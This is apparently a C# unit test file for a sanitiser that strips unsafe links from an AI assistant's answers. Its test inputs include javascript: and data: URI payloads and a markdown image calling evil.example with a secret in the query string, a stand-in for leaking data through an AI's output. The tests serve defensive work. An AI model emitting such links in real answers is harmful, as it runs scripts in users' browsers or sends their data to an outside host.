using Assistant.Core.Answering.Citations;

namespace Assistant.Core.Tests.Answering.Citations;

public sealed class AnswerLinksTests
{
    [Theory]
    [InlineData("See [the page](https://docs.example.org/a_(b)/) [1].", "See [the page](https://docs.example.org/a_(b)/) [1].")]
    [InlineData("See [it](javascript:alert(1)) now.", "See it now.")]
    [InlineData("See [it](JaVaScRiPt:alert(1)).", "See it.")]
    [InlineData("See [it](data:text/html,x) and [that](/relative).", "See it and that.")]
    [InlineData("![spy](https://evil.example/?q=secret)", "spy")]
    [InlineData("![spy][1]\n\n[1]: javascript:x", "[spy][1]\n\n")]
    [InlineData("<javascript:alert(1)> <https://ok.example/>", " <https://ok.example/>")]
    [InlineData("`[a](javascript:x)` stays", "`[a](javascript:x)` stays")]
    [InlineData("```\n[a](javascript:x)\n```", "```\n[a](javascript:x)\n```")]
    public void Clean_Links_KeepsWebLinksAlone(string answer, string expected) => Assert.Equal(expected, AnswerLinks.Clean(answer));
}
